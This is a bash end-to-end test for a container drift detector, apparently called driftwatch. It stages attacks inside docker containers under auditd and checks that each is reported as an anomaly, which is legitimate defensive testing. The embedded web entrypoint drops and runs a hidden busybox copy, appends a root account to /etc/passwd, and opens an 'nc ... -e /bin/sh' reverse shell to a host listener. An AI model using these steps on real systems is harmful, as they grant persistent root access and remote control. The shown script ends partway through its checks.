#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Drift detection end to end with real auditd and real docker containers.
# A private auditd runs driftwatch as its plugin (learn_window = 20 s,
# docker_root = the private dockerd's data root), the project's rules
# loaded; the test starts its own dockerd (own data root, exec root, socket
# and pid file; no iptables) and stops it by PID, whatever happened.
# Two busybox images made by "docker import":
#   dw-dk-web:1    httpd on 8080, a loop appending to /tmp/hits.log, reading
#                  files and fetching the other web container's page every
#                  second; with CRASH set it lives 1 s and fails instead.
#   dw-dk-worker:1 a loop writing, hashing and removing /tmp/job.N and
#                  fetching both web pages; a stub package manager /sbin/apk
#                  it never runs.
# Both hold /bin/health, which "docker exec CONTAINER /bin/health" runs in
# web1, web2 and the worker every 3 s from start to end.  Four containers on
# docker's bridge (172.17.0.0/16): web1 and web2 (dw-dk-web:1), the worker
# (dw-dk-worker:1), and crash (dw-dk-web:1 with CRASH, --restart=always: a
# crash loop under docker's back-off).  A host process does the same kinds
# of things twice (drop and run a copy of busybox in a temp dir, write /tmp,
# a package manager stub, unshare, a bind mount, fetch web1's page): once
# while the images learn, once during the attack.  Once both profiles are
# active, normal life goes on (health checks, crash loop) and the worker is
# restarted ("docker restart").  At ATTACK_AT (epoch s, 36 s after the
# first container):
#   web2, from its entrypoint: (a) copies busybox to /tmp/.x-TOKEN/, makes it
#     executable, runs it; (b) appends a user to /etc/passwd; (c) "nc GW PORT
#     -e /bin/sh", a reverse shell to a listener on the host (a peer the
#     image never talked to) that sends it a command;
#   the worker, from its entrypoint: (d) runs the stub package manager;
#   the host: (e) docker exec sh -c '...' into the worker, a command never
#     used before.
# web1 and crash are never attacked.  Checked, first that the scenario
# happened (from "driftwatch events" and "containers"), then from
# "driftwatch anomalies": both images active before the attack; nothing
# before the attack nor after it, nothing on web1 or crash, nothing outside a
# container; each attack an anomaly of the expected rule on the right
# container with evidence serials from the log; the events' actor: runc's
# init (its mounts) and docker's libnetwork-setkey hook are "runtime" work
# of the container they serve, the health checks a "session", the host
# process's events never in a container.  Last, a replay of the log with
# "driftwatch ingest" (the same configuration, docker's state copied before
# the containers went, no /proc) finds the same (rule, container) pairs.
# About 60 s, plus any wait for the kernel audit lock.  With
# DW_E2E_DOCKER_KEEP=DIR, the audit log, the configuration, docker's saved
# state and the checker's inputs are kept in DIR, for a replay by hand:
#   driftwatch --db X.db --config DIR/dw.conf ingest --runtime-root \
#       DIR/state DIR/audit.log
# With DW_E2E_SOAK=S (seconds), normal life with active profiles lasts S s
# longer before the attack (a false-positive soak, bench/soak.sh): health
# checks and the crash loop go on and web1 is restarted every 60 s; the
# end prints "# soak: runtime=docker normal_seconds=N
# anomalies_after_learning=N attacks_found=F/E" and a "# soak anomaly:"
# line for each anomaly between the profiles' activation and the attack.
. "$TOP_SRCDIR/tests/lib.sh"
. "$TOP_SRCDIR/tests/lab/auditd.sh"
t_begin=${EPOCHREALTIME%.*}

# dockerd and the CLI search PATH (runc, containerd, docker-init): the
# Debian binaries, never another docker client earlier in PATH.
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
LAB=$TOP_SRCDIR/tests/lab
LEARN=20
WEB_IMAGE=dw-dk-web:1
WORKER_IMAGE=dw-dk-worker:1
# docker's default bridge (172.17.0.0/16 here; read once dockerd runs): a
# fresh dockerd hands out addresses in order, so the two web containers,
# started first, know each other's in advance (checked once they run).  The
# kernel audit lock, taken before dockerd starts, keeps two runs of this
# test from sharing the bridge.
GW=
WEB1_IP=
WEB2_IP=

sh "$LAB/docker-setup.sh" check 2> "$TMP/setup.err" ||
    skip_all "$(tail -n 1 "$TMP/setup.err" | sed 's/^SKIP: //')"
command -v python3 > /dev/null || skip_all "python3 needed"
if ! "$DRIFTWATCH" anomalies --help > /dev/null 2>&1; then
	echo "not ok 1 - driftwatch has the anomalies command"
	echo "1..1"
	exit 1
fi

# ---------------------------------------------------------------- images
cat > "$TMP/web" <<'EOS'
#!/bin/sh
# dw-dk-web: a page on 8080, a hit log, the peer's page every second.
# With CRASH set: a short life, then a failure (a crash loop under
# --restart=always).  With ATTACK set, at ATTACK_AT (epoch s) and once:
# the attack.
trap 'exit 0' TERM
if [ -n "$CRASH" ]; then
	cat /etc/hostname > /dev/null
	sleep 1
	exit 3
fi
echo "<h1>$(hostname)</h1>" > /var/www/index.html
httpd -f -p 8080 -h /var/www &

log() { echo "$(date +%s) $*" >> /tmp/attack.log; }
attack() {
	d=/tmp/.x-$TOKEN
	log a-drop-exec
	mkdir -p $d
	cp /bin/busybox $d/busybox
	chmod +x $d/busybox
	$d/busybox id > /dev/null
	log b-account-write
	echo "$TOKEN:x:0:0::/root:/bin/sh" >> /etc/passwd
	log c-reverse-shell
	nc -w 5 $C2 -e /bin/sh
	log done
}

i=0
attacked=
while :; do
	i=$((i + 1))
	echo "$i" >> /tmp/hits.log
	tail -n 3 /tmp/hits.log > /tmp/last-hits
	cat /etc/hostname /var/www/index.html > /dev/null
	wget -q -O /tmp/peer.html "http://$PEER:8080/"
	now=$(date +%s)
	if [ -n "$ATTACK" ] && [ -z "$attacked" ] && [ "$now" -ge "$ATTACK_AT" ]; then
		attacked=1
		attack 2> /dev/null
	fi
	sleep 1 &
	wait $!
done
EOS
cat > "$TMP/worker" <<'EOS'
#!/bin/sh
# dw-dk-worker: make, hash and delete files in /tmp, fetch the web pages
# every second.  At ATTACK_AT (epoch s) and once: run the package manager.
trap 'exit 0' TERM
i=0
attacked=
while :; do
	i=$((i + 1))
	echo "job $i" > /tmp/job.$i
	md5sum /tmp/job.$i > /tmp/job.$i.md5
	rm -f /tmp/job.$i /tmp/job.$i.md5
	for p in $PEERS; do
		wget -q -O /dev/null "http://$p:8080/"
	done
	now=$(date +%s)
	if [ -z "$attacked" ] && [ "$now" -ge "$ATTACK_AT" ]; then
		attacked=1
		echo "$now d-package-manager" >> /tmp/attack.log
		/sbin/apk add "foo-$TOKEN" > /dev/null
		echo "$(date +%s) done" >> /tmp/attack.log
	fi
	sleep 1 &
	wait $!
done
EOS
mkdir -p "$TMP/xweb/bin" "$TMP/xworker/bin" "$TMP/xworker/sbin"
# the health check: the same command every time
printf '#!/bin/sh\ncat /etc/hostname > /dev/null && [ -d /tmp ] && echo ok\n' \
    > "$TMP/xweb/bin/health"
chmod 0755 "$TMP/xweb/bin/health"
cp -p "$TMP/xweb/bin/health" "$TMP/xworker/bin/health"
printf '#!/bin/sh\necho "apk (stub): $*"\n' > "$TMP/xworker/sbin/apk"
chmod 0755 "$TMP/xworker/sbin/apk"
MKIMAGE_EXTRA=$TMP/xweb sh "$LAB/docker-setup.sh" rootfs "$TMP/web" "$TMP/web.tar" \
    2>> "$TMP/setup.err" &&
    MKIMAGE_EXTRA=$TMP/xworker sh "$LAB/docker-setup.sh" rootfs "$TMP/worker" \
    "$TMP/worker.tar" 2>> "$TMP/setup.err" ||
    skip_all "cannot build the images' file systems: $(tail -n 1 "$TMP/setup.err")"

# ---------------------------------------------------------------- set-up
DB=$TMP/live.db
CONF=$TMP/dw.conf
DK=$TMP/dk		# dockerd's data root
DX=$TMP/dx		# its exec root (containerd's socket: keep it short)
export DOCKER_HOST=unix://$TMP/d.sock
printf 'db = %s\nlearn_window = %s\ndocker_root = %s\n' "$DB" $LEARN "$DK" > "$CONF"
# auditd passes a plugin at most two arguments and an empty environment
cat > "$TMP/plugin.conf" <<EOC
active = yes
direction = out
path = $DRIFTWATCH
type = always
args = --config=$CONF plugin
format = string
EOC

ids=""
DOCKERD_PID=
healthpid=
c2pid=
HOSTD=$TMP/host

# Stops our dockerd: our containers first, then the daemon by PID (its
# containerd with it), then whatever it left mounted under $TMP (it
# bind-mounts its data root on itself).
dockerd_stop() {
	local pid=$DOCKERD_PID c i cpid
	[ -n "$pid" ] || return 0
	DOCKERD_PID=
	cpid=$(cat "$DX/containerd/containerd.pid" 2> /dev/null)
	if kill -0 "$pid" 2> /dev/null; then
		for c in $ids; do
			timeout 30 docker rm -f "$c" > /dev/null 2>&1
		done
		kill -TERM "$pid" 2> /dev/null
		for i in $(seq 150); do
			kill -0 "$pid" 2> /dev/null || break
			sleep 0.1
		done
		kill -0 "$pid" 2> /dev/null && kill -KILL "$pid" 2> /dev/null
	fi
	wait "$pid" 2> /dev/null
	# a containerd that outlived it (dockerd killed): ours if it names $DX
	if [ -n "$cpid" ] && kill -0 "$cpid" 2> /dev/null &&
	    tr '\0' ' ' < "/proc/$cpid/cmdline" 2> /dev/null | grep -qF "$DX/"; then
		kill -TERM "$cpid" 2> /dev/null
		for i in $(seq 50); do
			kill -0 "$cpid" 2> /dev/null || break
			sleep 0.1
		done
	fi
	awk -v t="$TMP/" 'index($2, t) == 1 { print $2 }' /proc/mounts |
	    sort -r | while read -r m; do umount -l "$m"; done
}

cleanup() {
	if [ -n "$healthpid" ]; then
		: > "$TMP/stop-health"
		kill "$healthpid" 2> /dev/null
		wait "$healthpid" 2> /dev/null
	fi
	[ -n "$c2pid" ] && kill "$c2pid" 2> /dev/null
	lab_auditd_stop
	dockerd_stop
	rm -f /tmp/dw-dk-host-$$.log
	awk -v t="$TMP/" 'index($2, t) == 1 { print $2 }' /proc/mounts |
	    sort -r | while read -r m; do umount -l "$m"; done
	rm -rf "$TMP"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
lab_auditd_start "$TMP/auditd" "$TMP/plugin.conf" 2> "$TMP/start.err"
rc=$?
[ $rc -eq 77 ] && skip_all "$(sed 's/^SKIP: //' "$TMP/start.err")"
[ $rc -eq 0 ] || { cat "$TMP/start.err" >&2; echo "not ok 1 - auditd starts"; echo 1..1; exit 1; }
t_audit=${EPOCHREALTIME%.*}

# Only ours: another dockerd would share docker0 and its addresses.
other=$(pgrep -x dockerd | tr '\n' ' ')
[ -z "$other" ] || skip_all "another dockerd runs (pid $other); docker0 would be shared"
mkdir -p "$DK" "$DX"
dockerd --iptables=false --ip-forward=false --data-root "$DK" --exec-root "$DX" \
    -H "$DOCKER_HOST" --pidfile "$TMP/dockerd.pid" > "$TMP/dockerd.log" 2>&1 &
DOCKERD_PID=$!
for i in $(seq 300); do
	timeout 5 docker version > /dev/null 2>&1 && break
	kill -0 "$DOCKERD_PID" 2> /dev/null || break
	sleep 0.1
done
timeout 5 docker version > /dev/null 2>&1 ||
    skip_all "dockerd does not start: $(grep -v 'level=info' "$TMP/dockerd.log" | tail -n 1)"
img_web=$(timeout 30 docker import --change 'ENTRYPOINT ["/entry"]' \
    --change 'ENV PATH=/bin' "$TMP/web.tar" $WEB_IMAGE 2>> "$TMP/docker.err") &&
    img_worker=$(timeout 30 docker import --change 'ENTRYPOINT ["/entry"]' \
    --change 'ENV PATH=/bin' "$TMP/worker.tar" $WORKER_IMAGE 2>> "$TMP/docker.err") ||
    skip_all "docker import fails: $(tail -n 1 "$TMP/docker.err")"
GW=$(timeout 10 docker network inspect -f '{{range .IPAM.Config}}{{.Gateway}}{{end}}' bridge 2> /dev/null)
case $GW in
*.*.*.1) ;;
*) skip_all "docker's bridge network has no IPv4 gateway ending in .1 ('$GW')" ;;
esac
WEB1_IP=${GW%.1}.2
WEB2_IP=${GW%.1}.3

now() { echo "${EPOCHREALTIME%.*}"; }
until_time() {	# until_time EPOCH_S: sleep until then
	local t
	t=$(( $1 - $(now) - 1 ))
	[ $t -gt 0 ] && sleep $t
	while [ "$(now)" -lt "$1" ]; do sleep 0.05; done
}

# host_work N: the host doing what the containers do, never in one; it
# writes its pid and its start and end times to $TMP/host.N
host_work() {
	(
		d=$HOSTD/$1
		echo "$BASHPID $EPOCHREALTIME" > "$TMP/host.$1"
		mkdir -p "$d/a" "$d/b" "$d/x"
		cp /bin/busybox "$d/x/busybox"
		chmod +x "$d/x/busybox"
		"$d/x/busybox" id > /dev/null
		echo "host $token" >> /tmp/dw-dk-host-$$.log
		printf '#!/bin/sh\necho "apk (host stub): $*"\n' > "$d/x/apk"
		chmod +x "$d/x/apk"
		"$d/x/apk" add "foo-$token-host" > /dev/null
		unshare -m true
		mount --bind "$d/a" "$d/b" && umount "$d/b"
		/bin/busybox wget -q -O "$d/page" "http://$WEB1_IP:8080/"
		/bin/busybox sh -c "cat /etc/hostname > $d/hostname"
		rm -f /tmp/dw-dk-host-$$.log
		echo "$EPOCHREALTIME" >> "$TMP/host.$1"
	) > "$TMP/host-out.$1" 2>&1
}

# ---------------------------------------------------------------- capture
token=dwdk$$x$RANDOM
C2PORT=$(free_port)
t0=$(now)
SOAK=${DW_E2E_SOAK:-0}
ATTACK_AT=$((t0 + LEARN + 16 + SOAK))
run() {	# run NAME IMAGE ARGS...: prints the id
	local name=$1 image=$2
	shift 2
	timeout 30 docker run -d --name "$name" --hostname "${name%-*}" \
	    --label driftwatch-test=e2e-docker -e TOKEN=$token \
	    -e ATTACK_AT=$ATTACK_AT "$@" "$image" 2>> "$TMP/docker.err"
}
w1=$(run dw-dk-web1-$$ $WEB_IMAGE -e PEER=$WEB2_IP)
ids="$ids $w1"
w2=$(run dw-dk-web2-$$ $WEB_IMAGE -e PEER=$WEB1_IP -e ATTACK=1 \
    -e "C2=$GW $C2PORT")
ids="$ids $w2"
k1=$(run dw-dk-worker-$$ $WORKER_IMAGE -e "PEERS=$WEB1_IP $WEB2_IP")
ids="$ids $k1"
addr_of() { timeout 10 docker inspect -f '{{.NetworkSettings.IPAddress}}' "$1" 2> /dev/null; }
if [ ${#w1} != 64 ] || [ ${#w2} != 64 ] || [ ${#k1} != 64 ] ||
    [ "$(addr_of "$w1")" != $WEB1_IP ] || [ "$(addr_of "$w2")" != $WEB2_IP ]; then
	sed 's/^/# /' "$TMP/docker.err"
	echo "# web1 $(addr_of "$w1"), web2 $(addr_of "$w2") (want $WEB1_IP, $WEB2_IP)"
	echo "not ok 1 - the containers start, web1 and web2 at the addresses their peers use"
	echo "1..1"
	exit 1
fi
up2=$(docker inspect -f '{{.GraphDriver.Data.UpperDir}}' "$w2")
upk=$(docker inspect -f '{{.GraphDriver.Data.UpperDir}}' "$k1")

# The health checks, every 3 s until told to stop.
(
	while [ ! -e "$TMP/stop-health" ]; do
		for c in $w1 $w2 $k1; do
			if timeout 20 docker exec "$c" /bin/health > /dev/null 2>&1; then
				echo "$(now) ok $c"
			else
				echo "$(now) fail $c"
			fi
		done >> "$TMP/health.log"
		sleep 3
	done
) &
healthpid=$!

until_time $((t0 + 3))
cr=$(run dw-dk-crash-$$ $WEB_IMAGE --restart=always -e CRASH=1)
ids="$ids $cr"
[ ${#cr} = 64 ] || { sed 's/^/# /' "$TMP/docker.err"; echo "not ok 1 - the crash-looping container starts"; echo 1..1; exit 1; }

until_time $((t0 + 8))
host_work 1 &
hostw1=$!

# The profiles turn active by event time: wait for both.
active() {	# prints the states of the two images in baseline list
	"$DRIFTWATCH" --db "$DB" baseline list --json > "$TMP/baseline.json" 2> /dev/null
	python3 - "$TMP/baseline.json" "$WEB_IMAGE" "$WORKER_IMAGE" <<'EOP' 2> /dev/null
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
rows = [x for r in rows for x in (r if isinstance(r, list) else [r])]
st = {r.get("name"): r.get("state") for r in rows}
print(" ".join(str(st.get(n)) for n in sys.argv[2:]))
EOP
}
until_time $((t0 + LEARN + 1))
t_active=
while [ "$(now)" -lt $((ATTACK_AT - 6)) ]; do
	if [ "$(active)" = "active active" ]; then
		t_active=$(now)
		break
	fi
	sleep 0.5
done
: "${t_active:=$(now)}"
wait $hostw1

# Normal life with active profiles: a restart of the worker.
until_time $((t_active + 2))
timeout 30 docker restart -t 2 "$k1" > /dev/null 2>> "$TMP/docker.err"
restart_rc=$?
# The soak: web1, never attacked, restarted every 60 s meanwhile.
soak_restarts=0
next=$(( $(now) + 60 ))
while [ "$SOAK" -gt 0 ] && [ "$next" -lt $((ATTACK_AT - 8)) ]; do
	until_time $next
	timeout 30 docker restart -t 2 "$w1" > /dev/null 2>> "$TMP/docker.err" &&
	    soak_restarts=$((soak_restarts + 1))
	next=$((next + 60))
done

# The reverse shell's other end, on the host, on the bridge's gateway.
until_time $((ATTACK_AT - 3))
active > /dev/null
cp "$TMP/baseline.json" "$TMP/baseline.before-attack.json"
printf 'cat /etc/hostname; echo %s-rsh; exit\n' "$token" > "$TMP/c2.in"
timeout 40 busybox nc -l -p "$C2PORT" < "$TMP/c2.in" > "$TMP/rsh.out" 2>&1 &
c2pid=$!
c2_start=$EPOCHREALTIME

# ---------------------------------------------------------------- attack
until_time $ATTACK_AT
host_work 2 &
hostw2=$!
# (e) a command entering the worker through docker exec
timeout 20 docker exec "$k1" sh -c "cat /etc/hostname; ls /root; echo $token-exec" \
    > "$TMP/exec.out" 2>&1
exec_rc=$?
wait $hostw2

attack_done() {	# read on the host from the upper dir: no exec in the log
	local l
	[ -r "$1/tmp/attack.log" ] || return 1
	while read -r l; do
		[[ $l == *done ]] && return 0
	done < "$1/tmp/attack.log"
	return 1
}
for i in $(seq 150); do
	attack_done "$up2" && attack_done "$upk" && ! kill -0 $c2pid 2> /dev/null && break
	sleep 0.1
done
attack_done "$up2" && attack_done "$upk"
attack_ok=$?
kill $c2pid 2> /dev/null
wait $c2pid 2> /dev/null
c2_end=$EPOCHREALTIME
c2pid_done=$c2pid
c2pid=
grep -q "$token-rsh" "$TMP/rsh.out"
rsh_ok=$?
cp "$up2/tmp/attack.log" "$TMP/attack-web2.log" 2> /dev/null
cp "$upk/tmp/attack.log" "$TMP/attack-worker.log" 2> /dev/null
t_attack_end=$(( $(now) + 1 ))

# Normal life goes on for a few seconds after the attack.
sleep 6
: > "$TMP/stop-health"
wait $healthpid
healthpid=
restarts=$(timeout 10 docker inspect -f '{{.RestartCount}}' "$cr" 2> /dev/null)
# docker's state, for the replay once the containers are gone
mkdir -p "$TMP/state"
(cd "$DK" && tar --exclude='./containers/*/mounts' -cf - ./containers ./image) |
    tar -C "$TMP/state" -xf - 2> /dev/null
for c in $ids; do timeout 30 docker rm -f "$c" > /dev/null 2>&1; done
gone_ids=$ids
ids=""
sleep 1
cp "$LAB_AUDITD_LOG" "$TMP/audit.log.live"
lab_auditd_stop
for i in $(seq 100); do
	pgrep -f -- "--config=$CONF plugin" > /dev/null || break
	sleep 0.1
done
dockerd_stop
echo "# $((t_audit - t_begin)) s to start auditd (the kernel audit lock), $((t0 - t_audit)) s" \
    "to start dockerd and import the images"
echo "# t0 $t0, profiles active seen at +$((t_active - t0)) s, worker restarted at" \
    "+$((t_active + 2 - t0)) s, attack at +$((ATTACK_AT - t0)) s, done by" \
    "+$((t_attack_end - 1 - t0)) s; crash container restarts: $restarts;" \
    "test took $(( $(now) - t0 )) s since the first container"
if [ -n "$DW_E2E_DOCKER_KEEP" ]; then
	mkdir -p "$DW_E2E_DOCKER_KEEP"
	cp "$TMP/audit.log.live" "$DW_E2E_DOCKER_KEEP/audit.log"
	cp "$CONF" "$DW_E2E_DOCKER_KEEP/dw.conf"
	rm -rf "$DW_E2E_DOCKER_KEEP/state"
	cp -a "$TMP/state" "$DW_E2E_DOCKER_KEEP/state"
	echo "# kept the audit log, the configuration and docker's state in $DW_E2E_DOCKER_KEEP"
fi

# ---------------------------------------------------------------- checks
"$DRIFTWATCH" --db "$DB" events --limit 0 --json > "$TMP/events.json" 2> "$TMP/query.err"
"$DRIFTWATCH" --db "$DB" containers --json > "$TMP/containers.json" 2>> "$TMP/query.err"
"$DRIFTWATCH" --db "$DB" anomalies --limit 0 --json > "$TMP/anomalies.json" 2>> "$TMP/query.err"
ok $? "anomalies --json runs"
echo "# live status: $("$DRIFTWATCH" --db "$DB" status --json 2>&1 | tr -d '\n')"
"$DRIFTWATCH" --db "$TMP/replay.db" --config "$CONF" ingest \
    --runtime-root "$TMP/state" "$TMP/audit.log.live" > /dev/null 2> "$TMP/replay.err"
replay_rc=$?
"$DRIFTWATCH" --db "$TMP/replay.db" anomalies --limit 0 --json > "$TMP/replay.json" 2>> "$TMP/replay.err"
"$DRIFTWATCH" --db "$TMP/replay.db" containers --json > "$TMP/replay-containers.json" 2>> "$TMP/replay.err"

hpids=""
for f in "$TMP/host.1" "$TMP/host.2"; do
	[ -r "$f" ] && hpids="$hpids $(tr '\n' ' ' < "$f")"
done
count_health() {	# successful health checks of container $1
	local n
	n=$(grep -c " ok $1\$" "$TMP/health.log" 2> /dev/null)
	echo "${n:-0}"
}
cat > "$TMP/facts.json" <<EOF
{"tmp": "$TMP", "log": "$TMP/audit.log.live", "t0": $t0, "learn": $LEARN,
 "t_active": $t_active, "attack_at": $ATTACK_AT, "attack_end": $t_attack_end,
 "ids": {"web1": "$w1", "web2": "$w2", "worker": "$k1", "crash": "$cr"},
 "names": {"web1": "dw-dk-web1-$$", "web2": "dw-dk-web2-$$",
   "worker": "dw-dk-worker-$$", "crash": "dw-dk-crash-$$"},
 "images": {"web1": "$WEB_IMAGE", "web2": "$WEB_IMAGE",
   "worker": "$WORKER_IMAGE", "crash": "$WEB_IMAGE"},
 "image_ids": {"$WEB_IMAGE": "$img_web", "$WORKER_IMAGE": "$img_worker"},
 "token": "$token", "gw": "$GW", "c2port": $C2PORT, "hostd": "$HOSTD/",
 "host": "$hpids", "c2": [$c2pid_done, $c2_start, $c2_end],
 "health_ok": {"web1": $(count_health "$w1"), "web2": $(count_health "$w2"),
   "worker": $(count_health "$k1")},
 "restart_rc": $restart_rc, "exec_rc": $exec_rc, "attack_ok": $attack_ok,
 "rsh_ok": $rsh_ok, "replay_rc": $replay_rc}
EOF

# The checker prints "ok - ..." / "not ok - ..." and comment lines.
cat > "$TMP/check.py" <<'EOP'
import json, re, sys

F = json.load(open(sys.argv[1]))
T = F["tmp"]


def rows(path):
    try:
        out = []
        for l in open(path):
            if l.strip():
                r = json.loads(l)
                out.extend(r if isinstance(r, list) else [r])
        return out
    except (OSError, ValueError) as e:
        print("#   cannot read %s: %s" % (path, e))
        return []


ids = F["ids"]
role = {v: k for k, v in ids.items()}
t0, AT, AEND = F["t0"], F["attack_at"], F["attack_end"]
token = F["token"]
BASE = {"new-process", "new-argv", "new-user", "new-file", "new-peer",
        "new-listen", "new-privileged"}
MOUNTS = {"mount", "umount", "umount2", "move_mount", "open_tree", "fsopen",
          "fsmount", "fspick", "mount_setattr"}
E = rows(T + "/events.json")
A = rows(T + "/anomalies.json")
by_serial = {e.get("serial"): e for e in E}


def who(cid):
    return "host" if cid is None else role.get(cid, str(cid)[:12])


def cid_of(x):
    return (x.get("container") or {}).get("id") if isinstance(x.get("container"), dict) else x.get("container")


def mine(a):
    """An anomaly on one of our containers or on the host (the kernel's
    audit is the machine's: other tests' containers may show up)."""
    return cid_of(a) is None or cid_of(a) in role


def check(cond, desc, why=()):
    print(("ok - " if cond else "not ok - ") + desc)
    if not cond:
        for w in why:
            print("#   " + w)


def argv(e):
    return [str(a) for a in (e.get("argv") or [])]


def argv_has(e, s):
    return any(s in a for a in argv(e))


def path_has(e, s):
    return any(p.get("name") and s in p["name"] for p in (e.get("paths") or []))


def is_exec(e):
    return e.get("syscall") in ("execve", "execveat")


def show(evs, n=8):
    out = []
    for e in evs[:n]:
        out.append("serial %s +%.1fs pid %s ppid %s comm=%s exe=%s %s container=%s actor=%s argv=%s"
                   % (e.get("serial"), e.get("time", t0) - t0, e.get("pid"), e.get("ppid"),
                      e.get("comm"), e.get("exe"), e.get("syscall"), who(e.get("container")),
                      e.get("actor"), " ".join(argv(e))[:120]))
    if len(evs) > n:
        out.append("... and %d more" % (len(evs) - n))
    return out


def where(pred):
    return sorted(set(who(e.get("container")) for e in E if pred(e)))


# The host process: the pids of host_work and the listener, and their
# descendants, inside their time windows.
hw = F["host"].split()
wins, hp = [], set()
for i in range(0, len(hw) - 2, 3):
    hp.add(int(hw[i]))
    wins.append((float(hw[i + 1]), float(hw[i + 2])))
c2 = F["c2"]
hp.add(int(c2[0]))
wins.append((float(c2[1]), float(c2[2])))


def in_wins(t):
    return any(a - 0.5 <= t <= b + 0.5 for a, b in wins)


grown = True
while grown:
    grown = False
    for e in E:
        if e.get("ppid") in hp and e.get("pid") not in hp and in_wins(e.get("time", 0)):
            hp.add(e["pid"])
            grown = True
HE = [e for e in E if e.get("pid") in hp and in_wins(e.get("time", 0))]


def capture():
    for r in ("web1", "web2", "worker", "crash"):
        n = sum(1 for e in E if e.get("container") == ids[r])
        check(n > 0, "capture: events attributed to %s (%d)" % (r, n))
    C = {c.get("id"): c for c in rows(T + "/containers.json")}
    bad = []
    for r in ("web1", "web2", "worker", "crash"):
        c = C.get(ids[r]) or {}
        got = (c.get("runtime"), c.get("name"), c.get("image"))
        want = ("docker", F["names"][r], F["images"][r])
        if got != want:
            bad.append("%s: got %s, want %s" % (r, got, want))
    check(not bad, "capture: containers --json names the four containers and their images (docker_root)", bad)
    health = [e for e in E if is_exec(e) and "/bin/health" in argv(e)[:2]]
    got = {r: sum(1 for e in health if e.get("container") == ids[r]) for r in ("web1", "web2", "worker")}
    elsewhere = [e for e in health if e.get("container") not in (ids["web1"], ids["web2"], ids["worker"])]
    check(all(got[r] >= 3 and F["health_ok"][r] >= 3 for r in got) and not elsewhere,
          "capture: docker exec /bin/health seen in web1, web2, worker (%s of %s run)"
          % ([got[r] for r in ("web1", "web2", "worker")],
             [F["health_ok"][r] for r in ("web1", "web2", "worker")]), show(elsewhere))
    starts = lambda r: sorted(e["time"] for e in E if is_exec(e) and e.get("container") == ids[r]
                              and "/entry" in argv(e)[:2])
    s = starts("worker")
    check(F["restart_rc"] == 0 and len(s) >= 2 and any(t >= F["t_active"] for t in s),
          "capture: the worker restarted once the profiles were active (entry at %s s)"
          % ["+%.1f" % (t - t0) for t in s])
    s = starts("crash")
    check(len(s) >= 4 and any(F["t_active"] <= t < AT for t in s),
          "capture: crash loops, also between the profiles' activation and the attack (entry at %s s)"
          % ["+%.1f" % (t - t0) for t in s])
    check(F["attack_ok"] == 0, "capture: web2 and the worker carried out their attacks")
    got = where(lambda e: is_exec(e) and path_has(e, ".x-%s/busybox" % token))
    check(got == ["web2"], "capture: the dropped binary ran in web2 (%s)" % got)
    got = where(lambda e: path_has(e, "/etc/passwd") and e.get("key") == "driftwatch-write"
                and e.get("container") is not None)
    check(got == ["web2"], "capture: /etc/passwd written in web2 only (%s)" % got)
    conn = [e for e in E if e.get("syscall") == "connect" and (e.get("sockaddr") or {}).get("addr") == F["gw"]
            and (e.get("sockaddr") or {}).get("port") == F["c2port"]]
    cpids = set(e.get("pid") for e in conn if e.get("container") == ids["web2"])
    sh = [e for e in E if is_exec(e) and e.get("pid") in cpids and e.get("container") == ids["web2"]
          and argv(e)[:1] == ["/bin/sh"]]
    check(sorted(set(who(e.get("container")) for e in conn)) == ["web2"] and sh and F["rsh_ok"] == 0,
          "capture: web2 connected to the host's listener, then ran /bin/sh, which answered it")
    got = where(lambda e: argv_has(e, "foo-%s" % token) and not argv_has(e, "-host"))
    check(got == ["worker"], "capture: the worker ran its package manager (%s)" % got)
    got = where(lambda e: argv_has(e, "%s-exec" % token) and argv(e)[:1] == ["sh"])
    check(got == ["worker"] and F["exec_rc"] == 0, "capture: the docker exec shell ran in the worker (%s)" % got)
    check(len(HE) > 20 and any(is_exec(e) and path_has(e, F["hostd"]) for e in HE),
          "capture: the host process's events (%d, pids %s)" % (len(HE), sorted(hp)[:12]))


def expect(rules, r, desc, tok=""):
    cid = ids[r]
    cand = [a for a in A if a.get("rule") in rules and cid_of(a) == cid]

    def why(a):
        if not str(a.get("reason") or "").strip():
            return "no reason"
        s = a.get("serials")
        if not (isinstance(s, list) and s and all(isinstance(x, int) for x in s)):
            return "no serials"
        if not set(s) <= LOG:
            return "serials not in the log: %s" % sorted(set(s) - LOG)[:5]
        if a.get("image") != F["images"][r]:
            return "image %r" % a.get("image")
        if tok and tok not in json.dumps([a.get("exe"), a.get("argv"), a.get("reason")]):
            return "%s not in exe, argv or reason" % tok
        ev = [by_serial.get(x) for x in s]
        if not any(e and e.get("container") == cid and e.get("time", 0) >= AT for e in ev):
            return "no evidence serial is an event of %s from the attack (%s)" % (r, s[:5])
        return ""
    w = [why(a) for a in cand]
    check("" in w, desc, w if w else ["no %s anomaly on %s" % ("/".join(rules), r)])


def detect():
    print("# live anomalies (rule, container, first_seen, pid, exe, argv -- reason):")
    for a in A:
        print("#   %s %s +%.1fs pid %s %s %s -- %s" % (
            a.get("rule"), who(cid_of(a)), (a.get("first_seen") or 0) - t0, a.get("pid"),
            a.get("exe"), " ".join(str(x) for x in (a.get("argv") or []))[:100],
            str(a.get("reason"))[:200]))
    bl = rows(T + "/baseline.before-attack.json")
    st = sorted((b.get("name"), b.get("state")) for b in bl if b.get("name") in F["image_ids"])
    check(st == sorted((n, "active") for n in F["image_ids"]),
          "baseline list: both images active before the attack (%s)" % st)
    foreign = sorted(set((a.get("rule"), who(cid_of(a))) for a in A if not mine(a)))
    if foreign:
        print("# anomalies on containers of other tests running meanwhile (not checked): %s" % foreign)
    got = sorted(set((a.get("rule"), who(cid_of(a))) for a in A if mine(a) and (a.get("first_seen") or 0) < AT))
    check(got == [], "no anomaly before the attack: learning, health checks, restart, crash loop (%s)" % got)
    got = sorted(set((a.get("rule"), who(cid_of(a))) for a in A if mine(a) and (a.get("first_seen") or 0) >= AEND))
    check(got == [], "no anomaly from the normal life after the attack (%s)" % got)
    for r in ("web1", "crash"):
        got = sorted(set(a.get("rule") for a in A if cid_of(a) == ids[r]))
        check(got == [], "no anomaly on %s, never attacked (%s)" % (r, got))
    got = sorted(set((a.get("rule"), a.get("exe")) for a in A if not cid_of(a)))
    check(got == [], "no anomaly outside a container: host, dockerd, containerd, shim, runc (%s)" % got)
    expect(("drop-exec",), "web2", "(a) drop-exec on web2, for /tmp/.x-TOKEN/busybox", ".x-" + token)
    expect(("account-write", "system-write"), "web2", "(b) account-write on web2, /etc/passwd")
